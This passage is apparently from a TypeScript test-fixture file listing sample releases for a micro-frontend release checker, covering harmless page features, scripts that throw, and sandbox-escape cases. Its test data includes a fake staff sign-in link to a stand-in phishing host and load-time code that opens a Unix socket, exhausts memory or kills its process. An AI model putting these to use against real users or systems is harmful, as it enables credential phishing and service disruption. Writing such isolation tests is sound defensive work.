      adds: `h('div', null, h('label', null, 'Doors', h('input', { type: 'range', min: 0, max: 40, value: state, onChange: (event) => setState(Number(event.target.value)) })), h('output', null, state * 900, ' dollars'))`,
    },
  },
  {
    title: 'filters a list while visitors type',
    draft: {
      adds: `h('div', null, h('label', null, 'City', h('input', { type: 'search', onChange: (event) => { const text = event.target.value; setTimeout(() => setState(text.length), 100); } })),
        h('ul', null, ...['Austin', 'Dallas', 'Houston'].slice(0, 3 - Math.min(state, 2)).map((city) => h('li', { key: city }, city))))`,
    },
  },
  {
    title: 'loads news every minute',
    draft: {
      effect: `const load = async () => { await fetch('/favicon.ico'); setState((count) => count + 1); }; const timer = setInterval(load, 60_000); return () => clearInterval(timer);`,
      adds: `h('p', { 'aria-live': 'polite' }, state > 0 ? 'Loaded again' : 'Loaded')`,
    },
  },
  {
    title: 'asks before unsent entries are lost',
    draft: {
      effect: `const ask = (event) => { if (document.querySelector('main input').value) event.preventDefault(); }; addEventListener('beforeunload', ask); return () => removeEventListener('beforeunload', ask);`,
    },
  },
  {
    title: 'counts clicks on links to other sites',
    draft: {
      adds: `h('a', { href: 'https://partner.example/', target: '_blank', rel: 'noopener', onClick: () => sessionStorage.setItem('PREFIX-clicks', '1') }, 'Our partner')`,
    },
  },
  {
    title: 'uses what only some browsers have where it is there',
    draft: {
      effect: `setState(navigator.connection?.effectiveType === '4g' ? 1 : 2); globalThis.scheduler?.postTask?.(() => {});`,
    },
  },
  {
    title: 'has a list of pages to choose from',
    draft: {
      adds: `h('label', null, 'Page', h('select', { onChange: (event) => location.assign(event.target.value) }, h('option', { value: path }, 'This page'), h('option', { value: '/about' }, 'About us')))`,
    },
  },
  {
    title: 'follows a link to another page of its own after two seconds',
    below: ['downtown'],
    draft: {
      adds: linkTo(`event.preventDefault(); setTimeout(() => location.assign(event.target.href), 2000);`),
    },
  },
  {
    title: 'opens another page of its own in a dialog',
    below: ['downtown'],
    draft: {
      adds: `h('div', null, ${linkTo('event.preventDefault(); setState(1);')}, h('dialog', { open: state === 1 }, 'We serve all of it.'))`,
    },
  },
  {
    title: 'copies an address to the clipboard',
    draft: { adds: button(`await navigator.clipboard?.writeText(location.href).catch(() => {}); setState(1);`) },
  },
];
const goodPages = 8;
const alone: (keyof RemoteDraft)[] = ['component', 'browser', 'onLoad', 'paths'];
const isAlone = ({ draft, below }: (typeof goodReleases)[number]) =>
  below !== undefined || alone.some((key) => draft[key] !== undefined);

/** Returns one release with a page that has all of these features. */
function combined(releases: typeof goodReleases): BrokenRelease {
  const drafts = releases.map(({ draft }) => draft);
  return {
    title: releases.map(({ title }) => title).join(', '),
    rules: [],
    draft: {
      features: drafts,
      css: drafts.map(({ css }) => css ?? '').join('\n'),
      files: Object.assign({}, ...drafts.map(({ files }) => files)),
      change: (release) => {
        for (const { change } of drafts) change?.(release);
      },
    },
  };
}

/** Features that do not need a page of their own are checked on a few pages, because each page takes several seconds. */
export const good: BrokenRelease[] = [
  ...goodReleases.filter(isAlone).map((release) => ({ rules: [], ...release })),
  ...Array.from({ length: goodPages }, (_, page) =>
    combined(goodReleases.filter((release) => !isAlone(release)).filter((_, index) => index % goodPages === page)),
  ),
];

/** A staff document reloads once when its page cannot be loaded. */
export const brokenStaffScripts: BrokenRelease[] = [
  {
    title: 'throws at the top of routes.js',
    rules: ['self-navigation'],
    draft: { browser: { 'routes.js': before('throw new Error("top");') } },
  },
  {
    title: 'has a syntax error in remoteEntry.js and throws in Node',
    rules: ['self-navigation'],
    draft: { onLoad: 'throw new Error("node");', browser: { 'remoteEntry.js': after('}}') } },
  },
  {
    title: 'throws in the first page',
    rules: ['self-navigation'],
    draft: { browser: { 'page.js': before('throw new Error("top");') } },
  },
];

/** Releases that mislead visitors and violate no rule. Managers see links to unknown hosts in the verdict. */
export const published: BrokenRelease[] = [
  {
    title: 'copies the title and words of another remote',
    rules: [],
    draft: { copies: '/about' },
  },
  {
    title: 'links to a sign-in page on another host',
    rules: [],
    note: 'lumenward-login.evil.example',
    draft: { adds: `h('a', { href: 'https://lumenward-login.evil.example/admin' }, 'Staff sign-in')` },
  },
];

const builtin = (name: string) => `process.getBuiltinModule('${name}')`;

/** Code of the Node build that runs when the release is loaded. `render/isolation.test.ts` has all ways out of the sandbox. */
export const isolation: BrokenRelease[] = [
  {
    title: 'connects to a Unix socket',
    rules: ['permission'],
    draft: {
      onLoad: `await new Promise((resolve, reject) =>
        ${builtin('net')}.connect('/tmp/publisher.sock').once('connect', resolve).once('error', reject));`,
    },
  },
  {
    title: 'allocates 2 GB of buffers',
    rules: ['memory'],
    draft: { onLoad: 'const kept = []; for (let i = 0; i < 20; i++) kept.push(Buffer.alloc(1e8));' },
  },
  {
    title: 'ends its process',
    rules: ['permission', 'render'],
    draft: { onLoad: `process.kill(process.pid, 'SIGKILL');` },
  },
];
